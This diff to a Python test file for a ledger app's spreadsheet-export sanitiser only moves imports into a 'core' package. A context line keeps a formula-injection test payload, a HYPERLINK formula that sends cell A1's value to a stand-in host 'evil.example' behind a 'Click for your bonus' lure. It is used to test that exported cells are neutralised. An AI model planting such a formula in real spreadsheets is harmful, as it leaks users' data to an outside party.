@@ -1,5 +1,5 @@
 """Spreadsheet exports: a text cell a partner or an official typed never becomes a live formula in someone else's
-spreadsheet, and no export gets past the one helper that sees to it (ledger/exports.py)."""
+spreadsheet, and no export gets past the one helper that sees to it (ledger/core/exports.py)."""
 
 from __future__ import annotations
 
@@ -14,7 +14,7 @@ import pandas as pd
 from fastapi.testclient import TestClient
 from sqlalchemy import Engine
 
-from ledger.base import utcnow
+from ledger.core.base import utcnow
 from tests.api.conftest import World, bearer, client_token, password_token, villager_token
 from tests.api.redeeming import give_points, offer, redeem
 
@@ -24,7 +24,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your bonus")'
 
 
 def test_text_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers() -> None:
-    from ledger import exports
+    from ledger.core import exports
 
     table = pd.DataFrame(
         {
